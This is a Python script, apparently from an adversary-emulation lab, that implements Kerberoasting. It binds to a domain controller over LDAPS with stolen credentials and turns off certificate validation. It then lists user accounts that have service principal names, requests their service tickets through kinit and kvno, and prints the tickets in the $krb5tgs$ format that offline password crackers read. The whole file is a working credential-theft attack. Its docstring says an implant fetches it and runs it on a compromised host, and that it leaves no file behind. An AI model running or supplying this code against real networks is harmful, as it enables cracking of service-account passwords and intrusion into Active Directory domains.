#!/usr/bin/python3
"""The pseudo-attacker's Kerberoasting tool, fetched by the implant and run on a held PC.

  python3 kr.py --dc 10.1.5.10 --realm CORP.EXAMPLE --user u --password p
Finds the user accounts with a service principal name over LDAPS (a plain bind as the stolen user,
python3-ldap3), asks the KDC for a ticket to each with the PC's own MIT Kerberos tools (kinit,
kvno), and prints each ticket's encrypted part in the "$krb5tgs$<etype>$*user$realm$spn*$..."
form offline crackers read (the credential cache parsed with python3-impacket). Leaves no file.
"""
import argparse, os, ssl, subprocess, sys, tempfile

import ldap3
from impacket.krb5.asn1 import Ticket
from impacket.krb5.ccache import CCache
from pyasn1.codec.der import decoder


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--dc", required=True)
    p.add_argument("--realm", required=True)
    p.add_argument("--user", required=True)
    p.add_argument("--password", required=True)
    a = p.parse_args()
    realm = a.realm.upper()
    base = ",".join(f"DC={x}" for x in realm.lower().split("."))
    # a plain bind is refused on 389 (strongerAuthRequired) but taken over LDAPS, whose
    # self-signed certificate an attacker does not check
    tls = ldap3.Tls(validate=ssl.CERT_NONE)
    server = ldap3.Server(a.dc, port=636, use_ssl=True, tls=tls, get_info=ldap3.NONE)
    conn = ldap3.Connection(server, user=f"{a.user}@{realm}", password=a.password)
    if not conn.bind():
        sys.exit(f"ldap bind as {a.user} refused: {conn.result.get('description')}")
    # people's accounts with an SPN; Samba's own dns-<dc> account has a random machine password
    conn.search(base, "(&(samAccountType=805306368)(servicePrincipalName=*)(!(sAMAccountName=dns-*)))",
                attributes=["sAMAccountName", "servicePrincipalName"])
    targets = [(str(e.sAMAccountName), str(e.servicePrincipalName.values[0])) for e in conn.entries
               if str(e.sAMAccountName).lower() != "krbtgt"]
    if not targets:
        sys.exit("no user account with a service principal name")
    for user, spn in targets:
        print(f"SPN {spn} {user}", flush=True)
    with tempfile.TemporaryDirectory() as d:
        conf, cache = os.path.join(d, "krb5.conf"), os.path.join(d, "cc")
        with open(conf, "w") as f:
            f.write(f"[libdefaults]\n default_realm = {realm}\n dns_lookup_kdc = false\n dns_lookup_realm = false\n"
                    f" default_tgs_enctypes = aes256-cts-hmac-sha1-96 rc4-hmac\n"
                    f" permitted_enctypes = aes256-cts-hmac-sha1-96 rc4-hmac\n"
                    f"[realms]\n {realm} = {{\n  kdc = {a.dc}\n }}\n")
        env = {**os.environ, "KRB5_CONFIG": conf, "KRB5CCNAME": f"FILE:{cache}"}
        k = subprocess.run(["kinit", f"{a.user}@{realm}"], input=a.password + "\n", text=True, env=env,
                           capture_output=True)
        if k.returncode:
            sys.exit(f"kinit failed: {k.stderr.strip()}")
        for user, spn in targets:
            subprocess.run(["kvno", spn], env=env, capture_output=True)
        names = {spn.lower(): user for user, spn in targets}
        for cred in CCache.loadFile(cache).credentials:
            server = cred["server"].prettyPrint().decode().split("@")[0]
            if server.lower() not in names:
                continue
            t = decoder.decode(cred.ticket["data"], asn1Spec=Ticket())[0]
            et, c = int(t["enc-part"]["etype"]), t["enc-part"]["cipher"].asOctets()
            print(f"$krb5tgs${et}$*{names[server.lower()]}${realm}${server}*${c[:16].hex()}${c[16:].hex()}", flush=True)
        subprocess.run(["kdestroy"], env=env, capture_output=True)


if __name__ == "__main__":
    main()
